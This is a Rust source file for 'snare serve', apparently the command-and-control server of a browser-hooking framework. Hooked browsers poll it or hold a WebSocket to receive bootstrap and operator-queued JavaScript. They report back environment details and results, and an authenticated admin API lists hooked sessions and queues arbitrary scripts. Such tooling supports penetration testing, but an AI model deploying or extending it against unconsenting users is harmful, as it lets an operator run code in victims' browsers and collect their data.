//! `snare serve`: the hook endpoint agents poll, the report-back endpoints,
//! and the bearer-authenticated admin API, on one axum router.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use chrono::Utc;
use futures::{SinkExt, StreamExt};
use serde::Deserialize;
use serde_json::{json, Value};
use tracing::{debug, error, info, warn};

use axum::{
    extract::{
        ws::{Message as WsMessage, WebSocket, WebSocketUpgrade},
        ConnectInfo, Path as AxumPath, Query, State,
    },
    http::{header, HeaderMap, HeaderValue, Request, StatusCode},
    middleware::{self, Next},
    response::{IntoResponse, Response},
    routing::{get, post},
    Json, Router,
};
use tower_http::cors::{Any, CorsLayer};

use snare_core::{filters, Config, Error, Paths};
use snare_engine::{bootstrap, registry, AutorunEngine, CommandQueue, RuleLoader, SessionRegistry};
use snare_storage::{
    BrowserStore, CommandStore, Db, DetailStore, ExecutionStore, HookedBrowser, LogStore,
    ModuleStore, RuleStore,
};

// ---------------------------------------------------------------------------
// Shared server state
// ---------------------------------------------------------------------------

#[derive(Clone)]
struct ServeState {
    config: Arc<Config>,
    registry: SessionRegistry,
    queue: CommandQueue,
    autorun: AutorunEngine,
    loader: Arc<RuleLoader>,
    rules: RuleStore,
    details: DetailStore,
    logs: LogStore,
    /// Admin API bearer token. None or empty disables the whole /api surface.
    api_token: Option<String>,
}

fn secure_eq(a: &str, b: &str) -> bool {
    if a.len() != b.len() {
        return false;
    }
    let mut diff: u8 = 0;
    for (&x, &y) in a.as_bytes().iter().zip(b.as_bytes().iter()) {
        diff |= x ^ y;
    }
    diff == 0
}

// ---------------------------------------------------------------------------
// Bearer token authentication middleware (admin API only)
// ---------------------------------------------------------------------------

async fn auth_middleware(
    State(state): State<ServeState>,
    req: Request<axum::body::Body>,
    next: Next,
) -> Response {
    let token = match state.api_token.as_deref() {
        Some(t) if !t.is_empty() => t,
        _ => {
            return (
                StatusCode::UNAUTHORIZED,
                "admin api disabled: no api.token configured",
            )
                .into_response()
        }
    };

    let auth_header = req
        .headers()
        .get(header::AUTHORIZATION)
        .and_then(|v| v.to_str().ok());

    let authorized = match auth_header {
        Some(h) if h.starts_with("Bearer ") => secure_eq(&h[7..], token),
        _ => false,
    };

    if authorized {
        next.run(req).await
    } else {
        (
            StatusCode::UNAUTHORIZED,
            "Unauthorized: invalid or missing Bearer token",
        )
            .into_response()
    }
}

// ---------------------------------------------------------------------------
// Response helpers
// ---------------------------------------------------------------------------

fn script_response(body: String) -> Response {
    ([(header::CONTENT_TYPE, "text/javascript")], body).into_response()
}

fn report_error(reason: &str) -> Response {
    Json(json!({ "success": false, "error": reason })).into_response()
}

fn internal_error(err: Error) -> Response {
    error!(error = %err, "request failed");
    StatusCode::INTERNAL_SERVER_ERROR.into_response()
}

// ---------------------------------------------------------------------------
// Hook check-in (polling transport)
// ---------------------------------------------------------------------------

async fn handle_hook(
    State(state): State<ServeState>,
    ConnectInfo(addr): ConnectInfo<SocketAddr>,
    Query(params): Query<HashMap<String, String>>,
    headers: HeaderMap,
) -> Response {
    if !state.registry.admit(addr.ip()) {
        return StatusCode::NOT_FOUND.into_response();
    }

    let token = params
        .get(&state.config.hook.session_param)
        .map(String::as_str);
    let host = headers
        .get(header::HOST)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("");
    let domain = host.split(':').next().unwrap_or(host);

    let (browser, is_new) = match state.registry.check_in(
        token,
        &addr.ip().to_string(),
        (!domain.is_empty()).then_some(domain),
    ) {
        Ok(pair) => pair,
        Err(err) => return internal_error(err),
    };

    if !filters::is_valid_hostname(domain) {
        debug!(host = %host, "check-in with invalid host header, serving nothing");
        return script_response(String::new());
    }

    if is_new {
        let user_agent = headers
            .get(header::USER_AGENT)
            .and_then(|v| v.to_str().ok())
            .unwrap_or("");
        let payload = bootstrap::select_bootstrap(&browser.session, &state.config.hook, user_agent);
        return script_response(payload);
    }

    match deliver_pending(&state, &browser) {
        Ok(body) => script_response(body),
        Err(err) => internal_error(err),
    }
}

/// Composes everything owed to the session: pending instructions first, then
/// raw executions, each acknowledged only after it is part of the response
/// body.
fn deliver_pending(state: &ServeState, browser: &HookedBrowser) -> snare_core::Result<String> {
    let pending = state.queue.pending_for(browser.id)?;
    let mut body = state.queue.compose_delivery(&pending);
    if !pending.is_empty() {
        let ids: Vec<i64> = pending.iter().map(|c| c.id).collect();
        state.queue.mark_sent(&ids)?;
        debug!(id = browser.id, count = ids.len(), "instructions delivered");
    }

    let executions = state.queue.unsent_executions(&browser.session)?;
    if !executions.is_empty() {
        for execution in &executions {
            if !body.is_empty() {
                body.push('\n');
            }
            body.push_str(&execution.script);
        }
        let ids: Vec<i64> = executions.iter().map(|e| e.id).collect();
        state.queue.mark_executions_sent(&ids)?;
        debug!(id = browser.id, count = ids.len(), "raw executions delivered");
    }

    Ok(body)
}

// ---------------------------------------------------------------------------
// Hook check-in (WebSocket push transport)
// ---------------------------------------------------------------------------

async fn handle_hook_ws(
    State(state): State<ServeState>,
    ConnectInfo(addr): ConnectInfo<SocketAddr>,
    Query(params): Query<HashMap<String, String>>,
    ws: WebSocketUpgrade,
) -> Response {
    if !state.config.hook.websocket.enable || !state.registry.admit(addr.ip()) {
        return StatusCode::NOT_FOUND.into_response();
    }

    let token = params.get(&state.config.hook.session_param).cloned();
    let ip = addr.ip().to_string();
    ws.on_upgrade(move |socket| async move {
        handle_ws_session(socket, state, token, ip).await;
    })
}

async fn handle_ws_session(
    socket: WebSocket,
    state: ServeState,
    token: Option<String>,
    ip: String,
) {
    let (browser, _) = match state.registry.check_in(token.as_deref(), &ip, None) {
        Ok(pair) => pair,
        Err(err) => {
            error!(error = %err, ip = %ip, "websocket check-in failed");
            return;
        }
    };
    info!(id = browser.id, ip = %ip, "websocket transport attached");

    let (mut sender, mut receiver) = socket.split();

    // Push loop: compose, send, and only then acknowledge. A frame that
    // never made it onto the wire leaves its instructions pending for the
    // next attempt.
    let push_state = state.clone();
    let push_browser = browser.clone();
    let poll = Duration::from_secs(push_state.config.hook.websocket.poll_secs.max(1));
    let push_task = tokio::spawn(async move {
        let mut ticker = tokio::time::interval(poll);
        loop {
            ticker.tick().await;

            let pending = match push_state.queue.pending_for(push_browser.id) {
                Ok(pending) => pending,
                Err(err) => {
                    error!(error = %err, "websocket compose failed");
                    break;
                }
            };
            if !pending.is_empty() {
                let script = push_state.queue.compose_delivery(&pending);
                if sender.send(WsMessage::Text(script)).await.is_err() {
                    break;
                }
                let ids: Vec<i64> = pending.iter().map(|c| c.id).collect();
                if let Err(err) = push_state.queue.mark_sent(&ids) {
                    error!(error = %err, "failed to acknowledge pushed instructions");
                    break;
                }
            }

            let executions = match push_state.queue.unsent_executions(&push_browser.session) {
                Ok(executions) => executions,
                Err(err) => {
                    error!(error = %err, "websocket compose failed");
                    break;
                }
            };
            if !executions.is_empty() {
                let script = executions
                    .iter()
                    .map(|e| e.script.as_str())
                    .collect::<Vec<_>>()
                    .join("\n");
                if sender.send(WsMessage::Text(script)).await.is_err() {
                    break;
                }
                let ids: Vec<i64> = executions.iter().map(|e| e.id).collect();
                if let Err(err) = push_state.queue.mark_executions_sent(&ids) {
                    error!(error = %err, "failed to acknowledge pushed executions");
                    break;
                }
            }
        }
    });

    // Inbound frames are result report-backs. The session established at
    // upgrade is authoritative; tokens inside frames are ignored.
    while let Some(frame) = receiver.next().await {
        let frame = match frame {
            Ok(frame) => frame,
            Err(_) => break,
        };
        match frame {
            WsMessage::Text(text) => {
                let body: Value = match serde_json::from_str(&text) {
                    Ok(body) => body,
                    Err(_) => {
                        warn!(id = browser.id, "discarding malformed websocket frame");
                        continue;
                    }
                };
                match validate_report(&body) {
                    Ok((command_id, friendly_name, payload, status)) => {
                        if let Err(err) = state.queue.record_result(
                            &browser.session,
                            command_id,
                            friendly_name,
                            payload,
                            status,
                        ) {
                            warn!(id = browser.id, error = %err, "websocket result rejected");
                        }
                    }
                    Err(reason) => {
                        warn!(id = browser.id, reason = %reason, "websocket result rejected")
                    }
                }
            }
            WsMessage::Close(_) => break,
            _ => {}
        }
    }

    push_task.abort();
    info!(id = browser.id, "websocket transport detached");
}

// ---------------------------------------------------------------------------
// Environment report
// ---------------------------------------------------------------------------

#[derive(Deserialize)]
struct InitRequest {
    token: String,
    #[serde(default)]
    details: HashMap<String, String>,
}

async fn handle_init(State(state): State<ServeState>, Json(req): Json<InitRequest>) -> Response {
    let browser = match state.registry.by_token(&req.token) {
        Ok(Some(browser)) => browser,
        Ok(None) => return StatusCode::NOT_FOUND.into_response(),
        Err(err) => return internal_error(err),
    };

    let stored = match state.details.set_many(
        browser.id,
        req.details.iter().map(|(k, v)| (k.as_str(), v.as_str())),
    ) {
        Ok(stored) => stored,
        Err(err) => return internal_error(err),
    };
    if let Err(err) = state.logs.register(
        "Hook",
        &format!("Environment report received from {}", browser.ip),
        browser.id,
    ) {
        return internal_error(err);
    }
    debug!(id = browser.id, stored, "environment details stored");

    if state.config.autorun.enable {
        if let Err(err) = state.autorun.run_all_matching(browser.id).await {
            error!(id = browser.id, error = %err, "autorun evaluation failed");
        }
    }

    Json(json!({ "success": true })).into_response()
}

// ---------------------------------------------------------------------------
// Result report-back
// ---------------------------------------------------------------------------

/// Field-type validation for a result report. Each malformed field yields
/// its own error so the agent author sees exactly which one is wrong.
fn validate_report(body: &Value) -> Result<(i64, &str, &Value, i64), String> {
    let command_id = body
        .get("command_id")
        .and_then(Value::as_i64)
        .ok_or_else(|| r#""command_id" needs to be an integer"#.to_string())?;
    let friendly_name = body
        .get("command_friendly_name")
        .and_then(Value::as_str)
        .ok_or_else(|| r#""command_friendly_name" needs to be a string"#.to_string())?;
    let payload = match body.get("result") {
        Some(value @ Value::Object(_)) => value,
        _ => return Err(r#""result" needs to be an object"#.to_string()),
    };
    let status = body
        .get("status")
        .and_then(Value::as_i64)
        .ok_or_else(|| r#""status" needs to be an integer"#.to_string())?;
    Ok((command_id, friendly_name, payload, status))
}

async fn handle_result(State(state): State<ServeState>, Json(body): Json<Value>) -> Response {
    let Some(token) = body.get("token").and_then(Value::as_str) else {
        return report_error(r#""token" needs to be a string"#);
    };
    let (command_id, friendly_name, payload, status) = match validate_report(&body) {
        Ok(fields) => fields,
        Err(reason) => return report_error(&reason),
    };

    match state
        .queue
        .record_result(token, command_id, friendly_name, payload, status)
    {
        Ok(_) => Json(json!({ "success": true })).into_response(),
        Err(Error::TypeMismatch(reason)) => report_error(&reason),
        Err(err) => internal_error(err),
    }
}

// ---------------------------------------------------------------------------
// Admin API
// ---------------------------------------------------------------------------

async fn handle_health(State(state): State<ServeState>) -> Response {
    let hooked = state.registry.list().map(|b| b.len()).unwrap_or(0);
    Json(json!({ "status": "ok", "hooked": hooked })).into_response()
}

async fn handle_rules_list(State(state): State<ServeState>) -> Response {
    match state.rules.all() {
        Ok(rules) => Json(json!({ "count": rules.len(), "rules": rules })).into_response(),
        Err(err) => internal_error(err),
    }
}

async fn handle_rules_load(State(state): State<ServeState>, Json(body): Json<Value>) -> Response {
    Json(state.loader.load(&body)).into_response()
}

async fn handle_hooks_list(State(state): State<ServeState>) -> Response {
    let browsers = match state.registry.list() {
        Ok(browsers) => browsers,
        Err(err) => return internal_error(err),
    };
    let now = Utc::now().timestamp();
    let hooks: Vec<Value> = browsers
        .iter()
        .map(|b| {
            json!({
                "id": b.id,
                "session": b.session,
                "ip": b.ip,
                "domain": b.domain,
                "firstseen": b.firstseen,
                "lastseen": b.lastseen,
                "count": b.count,
                "online": registry::is_online(b, now),
            })
        })
        .collect();
    Json(json!({ "count": hooks.len(), "hooks": hooks })).into_response()
}

#[derive(Deserialize)]
struct ExecuteRequest {
    script: String,
}

async fn handle_hook_execute(
    State(state): State<ServeState>,
    AxumPath(token): AxumPath<String>,
    Json(req): Json<ExecuteRequest>,
) -> Response {
    match state.registry.by_token(&token) {
        Ok(Some(_)) => {}
        Ok(None) => return StatusCode::NOT_FOUND.into_response(),
        Err(err) => return internal_error(err),
    }
    match state.queue.queue_execution(&token, &req.script) {
        Ok(execution) => {
            info!(execution_id = execution.id, "raw execution queued");
            Json(json!({ "success": true, "execution_id": execution.id })).into_response()
        }
        Err(err) => internal_error(err),
    }
}

#[derive(Deserialize)]
struct AutorunRunRequest {
    rule_ids: Vec<i64>,
    session_id: i64,
}

async fn handle_autorun_run(
    State(state): State<ServeState>,
    Json(req): Json<AutorunRunRequest>,
) -> Response {
    match state.autorun.run_selected(&req.rule_ids, req.session_id).await {
        Ok(()) => Json(json!({ "success": true })).into_response(),
        Err(err) => internal_error(err),
    }
}

// ---------------------------------------------------------------------------
// Server assembly
// ---------------------------------------------------------------------------

fn build_cors_layer(config: &Config) -> CorsLayer {
    if config.api.allowed_origins.is_empty() {
        return CorsLayer::permissive().allow_credentials(false);
    }
    let origins: Vec<HeaderValue> = config
        .api
        .allowed_origins
        .iter()
        .filter_map(|origin| origin.parse().ok())
        .collect();
    CorsLayer::new()
        .allow_origin(origins)
        .allow_methods(Any)
        .allow_headers(Any)
}

pub async fn run(cli_host: Option<String>, cli_port: Option<u16>) -> anyhow::Result<()> {
    let paths = Paths::new();
    paths.ensure_dirs()?;
    let config = Config::load_or_default(&paths)?;

    let db = Db::open(&config.db_file(&paths))?;
    let browsers = BrowserStore::new(db.clone());
    let details = DetailStore::new(db.clone());
    let logs = LogStore::new(db.clone());
    let modules = ModuleStore::new(db.clone());
    let commands = CommandStore::new(db.clone());
    let executions = ExecutionStore::new(db.clone());
    let rules = RuleStore::new(db);

    let module_count = modules.load_dir(&config.modules_dir(&paths))?;
    info!(count = module_count, "instruction modules loaded");

    let loader = Arc::new(RuleLoader::new(rules.clone()));
    let rule_count = loader.load_dir(&config.rules_dir(&paths));
    info!(count = rule_count, "autorun rules loaded");

    let registry = SessionRegistry::new(
        browsers.clone(),
        logs.clone(),
        config.restrictions.clone(),
    );
    let queue = CommandQueue::new(commands, executions, modules.clone(), browsers.clone());
    let autorun = AutorunEngine::new(
        rules.clone(),
        details.clone(),
        modules,
        browsers,
        queue.clone(),
    );

    let host = cli_host.unwrap_or_else(|| config.hook.host.clone());
    let port = cli_port.unwrap_or(config.hook.port);
    let hook_path = config.hook.path.clone();
    anyhow::ensure!(
        hook_path.starts_with('/'),
        "hook.path must start with '/' (got {:?})",
        hook_path
    );
    let cors = build_cors_layer(&config);
    let websocket = config.hook.websocket.enable;
    let api_token = config.api.token.clone();

    let state = ServeState {
        config: Arc::new(config),
        registry,
        queue,
        autorun,
        loader,
        rules,
        details,
        logs,
        api_token: api_token.clone(),
    };

    let api = Router::new()
        .route("/api/health", get(handle_health))
        .route("/api/rules", get(handle_rules_list).post(handle_rules_load))
        .route("/api/hooks", get(handle_hooks_list))
        .route("/api/hooks/:token/execute", post(handle_hook_execute))
        .route("/api/autorun/run", post(handle_autorun_run))
        .layer(middleware::from_fn_with_state(state.clone(), auth_middleware));

    let app = Router::new()
        .route(&hook_path, get(handle_hook))
        .route(&format!("{}/ws", hook_path), get(handle_hook_ws))
        .route(&format!("{}/init", hook_path), post(handle_init))
        .route(&format!("{}/result", hook_path), post(handle_result))
        .merge(api)
        .layer(cors)
        .with_state(state);

    let bind_addr = format!("{}:{}", host, port);
    let listener = tokio::net::TcpListener::bind(&bind_addr).await?;
    info!(addr = %bind_addr, hook = %hook_path, websocket, "hook server listening");
    if api_token.as_deref().map_or(true, str::is_empty) {
        warn!("no api.token configured, admin API is disabled");
    }

    axum::serve(
        listener,
        app.into_make_service_with_connect_info::<SocketAddr>(),
    )
    .with_graceful_shutdown(async {
        let _ = tokio::signal::ctrl_c().await;
        info!("shutdown signal received, draining");
    })
    .await?;

    Ok(())
}
